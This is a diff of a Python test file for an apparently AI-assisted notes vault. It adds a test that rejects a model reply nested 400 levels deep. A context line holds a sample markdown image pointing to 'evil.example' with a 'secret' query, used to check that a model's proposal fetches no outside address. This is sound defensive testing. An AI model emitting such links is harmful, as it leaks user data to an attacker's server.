@@ -103,6 +103,16 @@ def test_a_first_reply_stands_where_the_model_cannot_be_asked_again(vault: opene
     assert len(ended.outcome.proposals) == 1
 
 
+def test_a_reply_that_nests_too_deep_is_one_that_cannot_be_used(vault: opened.Opener) -> None:
+    deep = '{"a":' * 400 + "1" + "}" * 400
+
+    ended = runs.do(vault, Cast({"task": [[f'{{"summary": {deep}}}']]}), current="Garden.md")
+
+    assert ended.outcome.state == "failed"
+    assert ended.outcome.error is not None
+    assert ended.outcome.error["code"] == "bad_reply"
+
+
 def test_what_a_proposal_says_of_itself_calls_no_address(vault: opened.Opener) -> None:
     cast = Cast({"task": [scripts.task("Done. ![x](https://evil.example/?q=secret)", ("Garden.md", "end", "More."))]})
 
